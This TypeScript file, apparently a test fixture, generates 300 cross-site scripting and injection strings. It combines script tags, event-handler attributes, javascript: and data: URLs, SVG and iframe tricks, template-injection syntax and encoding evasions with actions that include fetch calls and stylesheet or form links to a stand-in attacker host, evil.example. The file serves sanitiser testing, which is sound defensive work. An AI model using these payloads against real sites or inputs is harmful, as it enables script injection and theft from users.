/** Texts that try to become markup, script, style or a link: 300, from what is tried and where a text may stand. */
const acts = ['window.pwned=1', 'alert(1)', "fetch('//evil.example')"];

const shapes: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `</td></tr></table><script>${act}</script>`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `--><script>${act}</script>`,
  (act) => `]]><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><img src=x onerror='${act}'>`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<math><mtext><img src=x onerror="${act}"></mtext></math>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
  (act) => `javascript:${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<style>@import '//evil.example/x.css'; *{background:url('javascript:${act}')}</style>`,
  (act) => `<link rel=stylesheet href="//evil.example/?${act}">`,
  (act) => `<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<form action="//evil.example" onsubmit="${act}"><button autofocus>`,
  (act) => `\${${act}} {{${act}}} #{${act}} <%=${act}%>`,
  (act) => `constructor.constructor("${act}")()`,
  (act) => `" onmouseover="${act}" style="position:fixed;inset:0" x="`,
  (act) => `' onpointerenter='${act}' x='`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt; &#60;img src=x onerror=${act}&#62;`,
  (act) => `\u202e<script>${act}</script>\u202c`,
  (act) => `<scr\u0000ipt>${act}</scr\u0000ipt><IMG SRC=x ONERROR="${act}">`,
];

const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `550 5.1.1 ${text}: user unknown`,
  (text) => `__proto__${text}`,
  (text) => `${'A'.repeat(180)}${text}`,
];

export const payloads: readonly string[] = shapes
  .flatMap((shape, index) =>
    acts.flatMap((act) => places.map((place) => place(shape(act)))).map((text) => ({ text, index })),
  )
  .map(({ text }) => text)
  .slice(0, 300);
